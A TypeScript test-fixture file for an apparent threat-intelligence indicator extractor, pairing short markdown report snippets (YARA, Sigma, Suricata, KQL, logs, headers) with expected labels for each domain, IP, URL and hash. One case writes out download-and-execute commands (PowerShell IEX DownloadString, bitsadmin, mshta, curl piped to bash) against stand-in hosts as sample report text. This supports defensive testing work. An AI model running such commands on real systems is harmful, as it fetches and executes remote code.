import { type ArticleCase, md5, sha1, sha256 } from './article.ts';

export const CODE: ArticleCase[] = [
  {
    name: 'csv code',
    markdown: `Indicators as CSV:

\`\`\`
type,value,comment
domain,mail-sync.cloud,C2
ip,91.92.240.55,C2
sha256,${sha256(11)},loader
url,https://mail-sync.cloud/login.php?id=1,phish
\`\`\``,
    want: {
      'mail-sync.cloud': 'indicator+',
      '91.92.240.55': 'indicator+',
      [sha256(11)]: 'indicator+',
      'https://mail-sync.cloud/login.php?id=1': 'indicator+',
    },
  },
  {
    name: 'json code',
    markdown: `The malware configuration of the backdoor:

\`\`\`json
{"c2": ["https://cfg-node.icu:8443/api/v2", "http://185.225.74.10/ping"], "campaign": "q4", "version": "2.1.0.7", "key": "${md5(12)}"}
\`\`\``,
    want: {
      'https://cfg-node.icu:8443/api/v2': 'indicator+',
      'http://185.225.74.10/ping': 'indicator+',
      '2.1.0.7': 'junk',
      [md5(12)]: 'context',
    },
  },
  {
    name: 'stix',
    markdown: `## STIX

\`\`\`
[domain-name:value = 'stix-host.biz'] OR [ipv4-addr:value = '91.92.240.77'] OR [file:hashes.'SHA-256' = '${sha256(13)}'] OR [url:value = 'http://stix-host.biz/a/b.php']
\`\`\``,
    want: {
      'stix-host.biz': 'indicator+',
      '91.92.240.77': 'indicator+',
      [sha256(13)]: 'indicator+',
      'http://stix-host.biz/a/b.php': 'indicator+',
    },
  },
  {
    name: 'suricata',
    markdown: `Detection of the botnet C2 traffic:

\`\`\`
alert dns any any -> any any (msg:"ET MALWARE Fake DNS Query (beacon-node.xyz)"; dns.query; content:"beacon-node.xyz"; reference:url,research.vendor-x.com/blog/a; reference:md5,${md5(14)}; sid:2040001; rev:1;)
\`\`\``,
    want: { 'beacon-node.xyz': 'indicator', [md5(14)]: 'indicator+', 'research.vendor-x.com/blog/a': 'reference' },
  },
  {
    name: 'yara',
    markdown: `\`\`\`
rule MAL_Loader_Nov23 {
  meta:
    description = "Detects loader, see https://vendor-x.com/blog"
    hash1 = "${sha256(15)}"
    date = "2023-11-20"
    id = "5c1f4f1e-3f4a-5b2a-9d3b-0c9f5d6d7e8f"
  strings:
    $s1 = "update-srv.online" ascii
    $s2 = { 6A 40 68 00 30 00 00 6A 14 8D 91 }
    $s3 = "Global\\\\Mtx_77"
  condition:
    uint16(0) == 0x5a4d and all of them
}
\`\`\``,
    want: { [sha256(15)]: 'indicator+', 'update-srv.online': 'indicator', 'https://vendor-x.com/blog': 'reference' },
  },
  {
    name: 'sigma',
    markdown: `\`\`\`yaml
title: Suspicious Rundll32
id: 5c1f4f1e-3f4a-5b2a-9d3b-0c9f5d6d7e8f
references:
    - https://vendor-x.com/blog/abc
author: Jane Doe
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\\rundll32.exe'
        Hashes|contains: 'SHA256=${sha256(16)}'
        DestinationIp: 91.92.240.90
    condition: selection
\`\`\``,
    want: { [sha256(16)]: 'indicator+', '91.92.240.90': 'indicator+', 'https://vendor-x.com/blog/abc': 'reference' },
  },
  {
    name: 'email headers',
    markdown: `The phishing mail:

\`\`\`
From: "HR Team" <hr@acme-payroll.co>
Reply-To: collect77@gmail.com
To: victim@client.org
Received: from mail.acme-payroll.co (mail.acme-payroll.co [91.92.241.50])
Message-ID: <20231011.abc@mail.acme-payroll.co>
Subject: Bonus
X-Originating-IP: 91.92.241.51
\`\`\``,
    want: {
      'hr@acme-payroll.co': 'indicator',
      'collect77@gmail.com': 'indicator+',
      '91.92.241.50': 'indicator+',
      '91.92.241.51': 'indicator+',
      '20231011.abc@mail.acme-payroll.co': 'reference',
      'victim@client.org': 'reference',
      'mail.acme-payroll.co': 'indicator',
    },
  },
  {
    name: 'http request',
    markdown: `The trojan sends:

\`\`\`
POST /gate/index.php HTTP/1.1
Host: gate-req.pw
User-Agent: Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36
Referer: http://www.google.com/
Content-Type: application/x-www-form-urlencoded
\`\`\``,
    want: { 'gate-req.pw': 'indicator', 'http://www.google.com/': 'reference' },
  },
  {
    name: 'powershell',
    markdown: `Then the malware runs:

\`\`\`
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('https://ps-host.shop/a.ps1'); [System.Net.ServicePointManager]::SecurityProtocol; $env:TEMP\\a.ps1"
cmd /c bitsadmin /transfer x http://91.92.241.60/b.exe %TEMP%\\b.exe
mshta http://hta-host.site/c
curl -s http://sh-host.site:81/i.sh|bash
\`\`\``,
    want: {
      'https://ps-host.shop/a.ps1': 'indicator+',
      'http://91.92.241.60/b.exe': 'indicator+',
      'http://hta-host.site/c': 'indicator',
      'http://sh-host.site:81/i.sh': 'indicator+',
    },
  },
  {
    name: 'log lines',
    markdown: `Attackers' web shell access:

\`\`\`
91.92.241.80 - - [11/Oct/2023:10:11:12 +0000] "POST /aspnet_client/shell.aspx HTTP/1.1" 200 312 "-" "python-requests/2.28.1"
2023-10-11T10:11:12Z 91.92.241.81:51234 -> 10.0.0.4:443 ESTABLISHED
\`\`\``,
    want: { '91.92.241.80': 'indicator+', '91.92.241.81:51234': 'indicator+', '10.0.0.4:443': 'junk' },
  },
  {
    name: 'code list',
    markdown: `## Indicators of compromise

\`\`\`
# C2
code-a.com
code-b[.]com:8080
hxxp://code-c[.]com/a
http://code-d.com/b?x=1#frag
91.92.242.20
// hashes
${sha256(99)} *a.exe
${md5(100)}|b.dll|2023
\`\`\``,
    want: {
      'code-a.com': 'indicator+',
      'code-b.com': 'indicator+',
      'http://code-c.com/a': 'indicator+',
      'http://code-d.com/b?x=1#frag': 'indicator+',
      '91.92.242.20': 'indicator+',
      [sha256(99)]: 'indicator+',
      [md5(100)]: 'indicator+',
    },
  },
  {
    name: 'hosts file',
    markdown: `The malware blocks updates:

\`\`\`
127.0.0.1 update.av-vendor.com
0.0.0.0 www.virustotal.com
\`\`\`

C2: hosts-c2[.]com`,
    want: { 'update.av-vendor.com': 'indicator', 'www.virustotal.com': 'reference', 'hosts-c2.com': 'indicator+' },
  },
  {
    name: 'reversing code',
    markdown: `The malware resolves APIs:

\`\`\`c
HMODULE h = LoadLibraryA("kernel32.dll");
ctx.info = this.state.id; foo.bar(); self.name = obj.data.name; std::cout << a.b.size();
System.Net.WebClient wc; Properties.Resources.data; Program.Main; MethodInfo.Invoke; Assembly.Load(raw);
sprintf(buf, "%s.%s", h.name, p->next.is);
[DllImport("user32.dll")]
import java.io.File; android.os.Build; os.path.join; socket.gethostbyname
\`\`\`

The class \`Form1.cs\` calls \`Settings.Default.Save\` and \`Stub.Program.Run\`. C2 is at c2-rev[.]xyz.`,
    want: { 'c2-rev.xyz': 'indicator+' },
  },
  {
    name: 'base64',
    markdown: `The malware config aHR0cHM6Ly9ldmlsLmNvbS9hLnBocD94PTE= and key 7Jh+9s/Kd83.ab/x== is decoded. C2 is [evil-b64.com](<https://www.virustotal.com/gui/domain/evil-b64.com>).`,
    want: { 'evil-b64.com': 'indicator' },
  },
  {
    name: 'mining pools',
    markdown: `The cryptominer malware connects to pool.minexmr.com:4444 and xmr.evil-pool.org:3333 with wallet 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A; config stratum+tcp://xmr.evil-pool.org:3333.`,
    want: {
      'stratum+tcp://xmr.evil-pool.org:3333': 'indicator',
      'xmr.evil-pool.org': 'indicator',
      'pool.minexmr.com': 'indicator',
      '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A': 'indicator',
    },
  },
  {
    name: 'kql',
    markdown: `## Hunting queries

Find the threat actor's infrastructure:

\`\`\`kusto
let c2 = dynamic(["kql-a.com", "kql-b.net"]);
let ips = dynamic(["91.92.243.1","91.92.243.2"]);
DeviceNetworkEvents
| where RemoteUrl has_any (c2) or RemoteIP in (ips)
| where InitiatingProcessFileName =~ "rundll32.exe"
| project Timestamp, DeviceName, InitiatingProcessSHA256
DeviceFileEvents | where SHA256 in ('${sha256(200)}', '${sha256(201)}')
\`\`\``,
    want: {
      'kql-a.com': 'indicator+',
      'kql-b.net': 'indicator+',
      '91.92.243.1': 'indicator+',
      '91.92.243.2': 'indicator+',
      [sha256(200)]: 'indicator+',
      [sha256(201)]: 'indicator+',
    },
  },
  {
    name: 'registry run',
    markdown: `Malware persistence:

| Key | Value |
| --- | --- |
| HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive | C:\\Users\\Public\\od.exe |
| HKLM\\SOFTWARE\\Policies | 1 |

Mutex: "Global\\\\M-77" and \`{8761ABBD-7F85-42EE-B272-A76179687C63}\`. User-Agent: "Mozilla/4.0 (compatible; MSIE 8.0; evilbot)".`,
    want: {},
  },
  {
    name: 'whois',
    markdown: `WHOIS of the phishing domain:

\`\`\`
Domain Name: whois-a.com
Registrar: NameCheap, Inc.
Registrar URL: http://www.namecheap.com
Registrar Abuse Contact Email: abuse@namecheap.com
Registrar WHOIS Server: whois.namecheap.com
Name Server: dns1.registrar-servers.com
Registrant Email: badguy88@gmail.com
\`\`\``,
    want: {
      'whois-a.com': 'indicator+',
      'http://www.namecheap.com': 'reference',
      'abuse@namecheap.com': 'reference',
      'dns1.registrar-servers.com': 'reference',
      'badguy88@gmail.com': 'indicator+',
      'whois.namecheap.com': 'reference',
    },
  },
  {
    name: 'cert dump',
    markdown: `The botnet's certificate:

\`\`\`
Issuer: C=US, O=Let's Encrypt, CN=R3
Subject: CN=cert-a.com
OCSP - URI:http://r3.o.lencr.org
X509v3 Subject Alternative Name: DNS:cert-a.com, DNS:www.cert-a.com
SHA1 Fingerprint=${sha1(300)}
\`\`\``,
    want: { 'cert-a.com': 'indicator', 'http://r3.o.lencr.org': 'reference', [sha1(300)]: 'context', 'www.cert-a.com': 'indicator' },
  },
  {
    name: 'dig',
    markdown: `Attackers' DNS tunnel:

\`\`\`
;; ANSWER SECTION:
abc123.tun-a.com. 60 IN TXT "Y21k"
tun-a.com. 300 IN NS ns1.tun-a.com.
tun-a.com. 300 IN A 91.92.244.20
\`\`\``,
    want: { '91.92.244.20': 'indicator' },
  },
  {
    name: 'ua',
    markdown: `The malware uses user agent \`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91\` and server \`Apache/2.4.41 (Ubuntu) PHP/7.4.3.1\`.`,
    want: { '120.0.0.0': 'junk', '7.4.3.1': 'junk' },
  },
  {
    name: 'yara import',
    markdown: `YARA for the loader:

\`\`\`yara
import "pe"
rule x {
 meta:
  author = "Jane Doe, acme.io"
  source = "https://acme.io/blog"
  sha256 = "${sha256(307)}"
 condition:
  pe.imphash() == "${md5(308)}" and pe.version_info["CompanyName"] contains "x" and math.entropy(0, filesize) > 7 and hash.md5(0, filesize) == "${md5(309)}"
}
\`\`\``,
    want: {
      [sha256(307)]: 'indicator+',
      [md5(308)]: 'indicator+',
      [md5(309)]: 'indicator+',
      'acme.io': 'reference',
      'https://acme.io/blog': 'reference',
    },
  },
  {
    name: 'lists of a hunting query',
    markdown: `Hunting for the backdoor:

\`\`\`
let domains = dynamic(["marram-sync.live", "sso.marram-sync.live"]);
let excludedHosts = dynamic(["intra.sedgefirm.com"]);
where RemoteUrl endswith "*sedge.com"
\`\`\``,
    want: { 'marram-sync.live': 'indicator+', 'sso.marram-sync.live': 'indicator+', 'intra.sedgefirm.com': 'indicator' },
  },
  {
    name: 'keys of snake_case and camelCase',
    markdown: `The malware configuration of the stealer:

\`\`\`json
{"hwid_key":"${md5(61)}","encryptionKey":"${md5(62)}","payload_md5":"${md5(63)}"}
\`\`\``,
    want: { [md5(61)]: 'context', [md5(62)]: 'context', [md5(63)]: 'indicator+' },
  },
];
